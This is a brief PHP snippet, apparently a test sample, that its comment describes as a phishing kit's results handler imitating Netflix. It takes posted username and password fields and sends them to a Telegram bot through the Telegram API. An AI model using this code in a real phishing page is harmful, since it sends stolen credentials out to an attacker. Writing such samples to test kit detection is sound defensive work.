<?php
// a kit's results sent to a chat bot: the text names the service imitated
// (written for the tests, never run)
$msg = "== Netflix Result ==\n" . $_POST['u'] . "\n" . $_POST['k'];
file_get_contents("https://api.telegram.org/bot" . $tok . "/sendMessage?chat_id=" . $chat . "&text=" . urlencode($msg));
